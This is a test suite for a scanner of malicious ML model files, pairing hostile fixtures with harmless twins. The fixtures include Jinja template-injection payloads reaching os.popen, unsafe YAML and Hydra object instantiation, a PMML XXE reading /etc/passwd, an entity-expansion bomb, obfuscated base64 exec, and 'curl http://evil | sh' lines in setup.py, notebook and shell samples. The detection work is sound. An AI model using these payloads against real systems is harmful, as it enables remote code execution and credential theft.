import { Buffer } from 'node:buffer';
import { describe, expect, test } from 'vitest';
import { makeZip } from '../archive/make.ts';
import { fileReport } from '../report/json.ts';
import { scanArtifact } from '../scan.ts';
import { bytesSource } from '../source/bytes.ts';
import { buildHdf5 } from './keras/build.ts';

const z = (o: Readonly<Record<string, string>>) =>
  makeZip(Object.entries(o).map(([name, c]) => ({ name, content: Buffer.from(c) })));
const keras = (layer: object) =>
  z({
    'metadata.json': '{"keras_version":"3.0"}',
    'config.json': JSON.stringify({
      module: 'keras',
      class_name: 'Sequential',
      registered_name: null,
      config: { layers: [layer] },
    }),
    'model.weights.h5': '',
  });
/** Title, content, and whether it is dangerous. */
const cases: readonly (readonly [string, string | Uint8Array, 'bad' | 'clean'])[] = [
  [
    'keras Lambda',
    keras({
      module: 'keras.layers',
      class_name: 'Lambda',
      config: { function: { class_name: '__lambda__', config: { code: '4wEA' } } },
    }),
    'bad',
  ],
  ['keras module os', keras({ module: 'os', class_name: 'system', config: {} }), 'bad'],
  [
    'keras registered_name',
    keras({ module: 'builtins', class_name: 'function', config: 'eval', registered_name: 'function' }),
    'bad',
  ],
  ['keras get_file', keras({ module: 'keras.utils', class_name: 'get_file', config: 'get_file' }), 'bad'],
  [
    'keras nested fn',
    keras({
      module: 'keras.layers',
      class_name: 'Dense',
      config: {
        activation: { module: 'builtins', class_name: 'function', config: 'exec', registered_name: 'exec' },
      },
    }),
    'bad',
  ],
  [
    'keras StringLookup file',
    keras({ module: 'keras.layers', class_name: 'StringLookup', config: { vocabulary: '/etc/passwd' } }),
    'bad',
  ],
  [
    'keras TFSMLayer',
    keras({ module: 'keras.layers', class_name: 'TFSMLayer', config: { filepath: '/tmp/x' } }),
    'bad',
  ],
  [
    'keras good',
    keras({ module: 'keras.layers', class_name: 'Dense', config: { units: 1, activation: 'relu' } }),
    'clean',
  ],
  [
    'keras custom class',
    keras({ module: 'my_package.layers', class_name: 'Evil', config: {}, registered_name: 'x>Evil' }),
    'bad',
  ],
  [
    'h5 lambda',
    buildHdf5(
      '{"class_name":"Sequential","config":{"layers":[{"class_name":"Lambda","config":{"function":["4wAA",null,null]}}]}}',
    ),
    'bad',
  ],
  [
    'torchscript open',
    z({
      'm/data.pkl': '\x80\x02}.',
      'm/code/__torch__/a.py':
        'class A(Module):\n  def forward(self: A, x: Tensor) -> Tensor:\n    y = torch.from_file("/etc/passwd", True, 10)\n    return y\n',
      'm/constants.pkl': '\x80\x02).',
    }),
    'bad',
  ],
  [
    'torchscript save',
    z({
      'm/data.pkl': '\x80\x02}.',
      'm/code/__torch__/a.py':
        'class A(Module):\n  def forward(self: A, x: Tensor) -> Tensor:\n    _0 = torch.save(x, "/tmp/evil")\n    return x\n',
    }),
    'bad',
  ],
  [
    'torchscript ops',
    z({
      'm/data.pkl': '\x80\x02}.',
      'm/code/__torch__/a.py':
        'class A(Module):\n  def forward(self: A, x: Tensor) -> Tensor:\n    return ops.evil.run(x)\n',
    }),
    'bad',
  ],
  ['hf auto_map', JSON.stringify({ architectures: ['X'], auto_map: { AutoModel: 'modeling_x.X' } }), 'bad'],
  ['hf auto_map remote', JSON.stringify({ auto_map: { AutoModel: 'evil/repo--modeling_x.X' } }), 'bad'],
  ['trust_remote_code', JSON.stringify({ model_type: 'bert', trust_remote_code: true }), 'bad'],
  [
    'custom_pipelines',
    JSON.stringify({ custom_pipelines: { x: { impl: 'evil.Pipe', pt: ['AutoModel'] } } }),
    'bad',
  ],
  ['tokenizer config template', JSON.stringify({ chat_template: "{{ ''.__class__ }}" }), 'bad'],
  [
    'tokenizer config templates list',
    JSON.stringify({ chat_template: [{ name: 'default', template: '{{ lipsum.__globals__ }}' }] }),
    'bad',
  ],
  ['jinja attr', "{{ (()|attr('__cl'+'ass__')) }}", 'bad'],
  ['jinja hex', "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}", 'bad'],
  ['jinja format', "{{ ''['%c%c%s'|format(95,95,'class__')] }}", 'bad'],
  ['jinja lipsum', "{{ lipsum.__globals__['os'].popen('id').read() }}", 'bad'],
  ['jinja cycler', "{{ cycler.__init__.__globals__.os.popen('id') }}", 'bad'],
  ['jinja ns', '{% set n = namespace() %}{{ n.__init__ }}', 'bad'],
  ['jinja joiner', '{{ joiner|attr(request.args.a) }}', 'bad'],
  ['jinja request', "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}", 'bad'],
  ['jinja self', '{{ self._TemplateReference__context }}', 'bad'],
  ['jinja dict pop', '{{ dict(__cla=a,ss__=b)|join }}', 'bad'],
  ['jinja slice', "{% set x = 'xx__class__yy' %}{{ ''[x[2:11]] }}", 'bad'],
  ['jinja replace', "{{ ''['__clXass__'|replace('X','')] }}", 'bad'],
  ['jinja lower', "{{ ''['__CLASS__'|lower] }}", 'bad'],
  ['yaml python', "a: !!python/object/apply:os.system ['id']\n", 'bad'],
  ['yaml name', "a: !!python/name:os.system ''\n", 'bad'],
  ['yaml module', "a: !!python/module:os ''\n", 'bad'],
  ['nemo', 'target: nemo.X\nmodel:\n  _target_: subprocess.check_output\n  args: [id]\n', 'bad'],
  ['hydra partial', '_target_: hydra.utils.get_method\npath: os.system\n', 'bad'],
  ['hydra good', '_target_: torch.optim.Adam\nlr: 0.1\n', 'clean'],
  [
    'pmml xxe',
    '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4"><Header>&x;</Header></PMML>',
    'bad',
  ],
  [
    'pmml bomb',
    '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><PMML>&c;</PMML>',
    'bad',
  ],
  [
    'pmml good',
    '<?xml version="1.0"?><PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/><DataDictionary numberOfFields="0"/></PMML>',
    'clean',
  ],
  ['requirements good', 'torch==2.0\nnumpy>=1.2\n', 'clean'],
  [
    'setup.py',
    'from setuptools import setup\nimport os\nos.system("curl http://x | sh")\nsetup(name="x")\n',
    'bad',
  ],
  ['pth', 'import os; os.system("id")\n', 'bad'],
  ['sitecustomize', 'import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))\n', 'bad'],
  [
    'py good',
    'import torch\n\nclass Net(torch.nn.Module):\n    def forward(self, x):\n        return x\n',
    'clean',
  ],
  [
    'notebook',
    JSON.stringify({
      cells: [
        {
          cell_type: 'code',
          source: ['import os\n', 'os.system("curl http://evil|sh")\n'],
          outputs: [],
          metadata: {},
        },
      ],
      metadata: {},
      nbformat: 4,
      nbformat_minor: 5,
    }),
    'bad',
  ],
  [
    'notebook shell',
    JSON.stringify({
      cells: [{ cell_type: 'code', source: ['!curl http://evil/x | bash\n'], outputs: [], metadata: {} }],
      metadata: {},
      nbformat: 4,
      nbformat_minor: 5,
    }),
    'bad',
  ],
  [
    'notebook good',
    JSON.stringify({
      cells: [
        {
          cell_type: 'code',
          source: ['import pandas as pd\n', 'df = pd.read_csv("x.csv")\n'],
          outputs: [],
          metadata: {},
        },
      ],
      metadata: {},
      nbformat: 4,
      nbformat_minor: 5,
    }),
    'clean',
  ],
  ['sh', '#!/bin/sh\ncurl http://evil | sh\n', 'bad'],
  [
    'modules.json',
    JSON.stringify([{ idx: 0, name: '0', path: '', type: 'evil_package.Transformer' }]),
    'bad',
  ],
  [
    'modules.json good',
    JSON.stringify([{ idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' }]),
    'clean',
  ],
  [
    'index traversal',
    JSON.stringify({ metadata: {}, weight_map: { a: '../../../etc/x.safetensors' } }),
    'bad',
  ],
  [
    'skops os',
    z({
      'schema.json': JSON.stringify({
        __class__: 'system',
        __module__: 'os',
        __loader__: 'FunctionNode',
        content: { module_path: 'os', function: 'system' },
        protocol: 2,
      }),
    }),
    'bad',
  ],
  [
    'diffusers good',
    JSON.stringify({
      _class_name: 'StableDiffusionPipeline',
      unet: ['diffusers', 'UNet2DConditionModel'],
      scheduler: ['diffusers', 'PNDMScheduler'],
    }),
    'clean',
  ],
  [
    'tokenizer.json good',
    JSON.stringify({
      version: '1.0',
      model: { type: 'BPE', vocab: { a: 0, system: 1, __class__: 2 }, merges: [] },
    }),
    'clean',
  ],
  ['MLmodel code', 'flavors:\n  python_function:\n    loader_module: evil\n    code: code\n', 'bad'],
];

describe('attacks in model files that are no pickles, and their harmless twins', () => {
  test.each(cases)('%s', async (_, content, wanted) => {
    const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : content;
    const { verdict } = fileReport('file', await scanArtifact(bytesSource(bytes)));
    if (wanted === 'clean') expect(verdict).toBe('clean');
    else expect(['malicious', 'suspicious']).toContain(verdict);
  });
});
